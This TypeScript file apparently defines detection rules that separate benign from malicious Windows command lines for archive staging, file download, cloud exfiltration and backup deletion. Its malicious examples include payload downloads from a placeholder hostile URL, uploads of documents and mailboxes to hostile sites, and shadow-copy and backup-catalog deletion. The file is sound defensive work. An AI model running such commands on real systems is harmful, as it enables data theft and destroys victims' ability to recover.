import type { DetectionRule } from "../rule.ts";

/** Collection, command and control, exfiltration and impact. */
export const THEFT_RULES: readonly DetectionRule[] = [
  {
    id: "R601",
    name: "archive-staging",
    tactic: "collection",
    technique: "T1560.001",
    severities: [3, 5, 2, 0],
    benign: [
      {
        parents: "explorer.exe cmd.exe outlook.exe ccmexec.exe",
        commands: [
          "7z.exe a slides.zip {ownFile}",
          "7z.exe x setup.zip",
          "tar.exe -xf logs.tar",
          "makecab.exe logs.cab {ownFile}",
          "7z.exe a logs.zip {papers}",
        ],
      },
      {
        parents: "mmc.exe rsat.exe",
        commands: ["robocopy.exe {papers} {target} /mir"],
        on: ["management", "server"],
      },
    ],
    malicious: [
      {
        parents: "rundll32.exe cmd.exe wscript.exe",
        commands: [
          "7z.exe a -p {droppedFile} {papers}",
          "tar.exe -cf {droppedFile} {papers}",
          "makecab.exe {droppedFile} {papers}",
          "robocopy.exe {papers} {droppedFile}",
          "7z.exe a {droppedFile} mailbox.pst",
        ],
      },
      {
        parents: "cmd.exe powershell.exe",
        commands: ["robocopy.exe {papers} {target} /mir"],
        on: ["workstation"],
      },
    ],
    service: [
      {
        account: "svc_backup",
        parents: "backupagent.exe",
        commands: [
          "7z.exe a -p backup.zip {papers} /pool tape",
          "robocopy.exe {papers} {target} /mir /pool tape",
        ],
        on: ["server"],
      },
    ],
  },
  {
    id: "R602",
    name: "file-download",
    tactic: "command-and-control",
    technique: "T1105",
    severities: [2, 5, 3, 0],
    benign: [
      {
        parents: "explorer.exe cmd.exe ccmexec.exe msiexec.exe",
        commands: [
          "certutil.exe -urlcache -f {ownUrl}",
          "bitsadmin.exe /transfer job {ownUrl}",
          "curl.exe -O {ownUrl}",
          "certutil.exe -hashfile {ownExe}",
          "certutil.exe -verify {ownExe}",
          "winget.exe install {ownUrl}",
        ],
      },
    ],
    malicious: [
      {
        parents: "explorer.exe cmd.exe wscript.exe rundll32.exe",
        commands: [
          "certutil.exe -urlcache -f {hostileUrl}",
          "bitsadmin.exe /transfer job {hostileUrl}",
          "curl.exe -O {hostileUrl}",
          "certutil.exe -decode {droppedFile} {droppedExe}",
          "curl.exe -o {droppedExe} {hostileUrl}",
          "winget.exe install {hostileUrl}",
        ],
      },
    ],
    service: [
      {
        account: "svc_patch",
        parents: "patchagent.exe",
        commands: [
          "bitsadmin.exe /transfer job {ownUrl} /window sunday",
          "certutil.exe -urlcache -f {ownUrl} /window sunday",
        ],
        on: ["server"],
      },
    ],
  },
  {
    id: "R604",
    name: "cloud-upload",
    tactic: "exfiltration",
    technique: "T1567.002",
    severities: [1, 4, 4, 1],
    benign: [
      {
        parents: "explorer.exe cmd.exe outlook.exe ccmexec.exe",
        commands: [
          "onedrive.exe upload {ownFile}",
          "curl.exe -T {ownFile} {ownUrl}",
          "winscp.exe put {ownFile} {ownSite}",
          "msedge.exe upload {ownFile} {ownSite}",
          "onedrive.exe upload slides.zip",
          "ftp.exe put logs.zip {ownSite}",
        ],
      },
      {
        parents: "mmc.exe rsat.exe",
        commands: ["rclone.exe copy {papers} onedrive"],
        on: ["management", "server"],
      },
    ],
    malicious: [
      {
        parents: "explorer.exe cmd.exe rundll32.exe wscript.exe",
        commands: [
          "rclone.exe copy {papers} mega",
          "curl.exe -T {papers} {hostileUrl}",
          "winscp.exe put {papers} {hostileSite}",
          "msedge.exe upload {papers} {hostileSite}",
          "curl.exe -T {droppedFile} {hostileUrl}",
          "ftp.exe put mailbox.pst {hostileSite}",
        ],
      },
      {
        parents: "cmd.exe powershell.exe",
        commands: ["rclone.exe copy {papers} onedrive"],
        on: ["workstation"],
      },
    ],
    service: [
      {
        account: "svc_backup",
        parents: "backupagent.exe",
        commands: ["rclone.exe copy {papers} vault /pool tape", "curl.exe -T {papers} {ownUrl} /pool tape"],
        on: ["server"],
      },
    ],
  },
  {
    id: "R605",
    name: "recovery-inhibited",
    tactic: "impact",
    technique: "T1490",
    severities: [0, 2, 4, 4],
    benign: [
      {
        parents: "mmc.exe cmd.exe powershell.exe ccmexec.exe",
        commands: [
          "vssadmin.exe list shadows",
          "vssadmin.exe create shadow",
          "vssadmin.exe resize shadowstorage 20gb",
          "bcdedit.exe /enum",
          "wbadmin.exe get versions",
        ],
      },
      {
        parents: "mmc.exe rsat.exe",
        commands: ["vssadmin.exe delete shadows /oldest"],
        on: ["management", "server"],
      },
    ],
    malicious: [
      {
        parents: "wscript.exe cmd.exe powershell.exe rundll32.exe",
        commands: [
          "vssadmin.exe delete shadows /all",
          "vssadmin.exe resize shadowstorage 401mb",
          "bcdedit.exe /set recoveryenabled no",
          "wbadmin.exe delete catalog /quiet",
          "wmic.exe shadowcopy delete",
          "cipher.exe /w C:",
        ],
      },
      {
        parents: "cmd.exe powershell.exe",
        commands: ["vssadmin.exe delete shadows /oldest"],
        on: ["workstation"],
      },
    ],
    service: [
      {
        account: "svc_backup",
        parents: "backupagent.exe",
        commands: [
          "vssadmin.exe delete shadows /all /pool tape",
          "wbadmin.exe delete backup /keep /pool tape",
        ],
        on: ["server"],
      },
      {
        account: "svc_sql",
        parents: "sqlagent.exe",
        commands: [
          "vssadmin.exe delete shadows /oldest /instance erp",
          "vssadmin.exe create shadow /instance erp",
        ],
        on: ["server"],
      },
    ],
  },
];
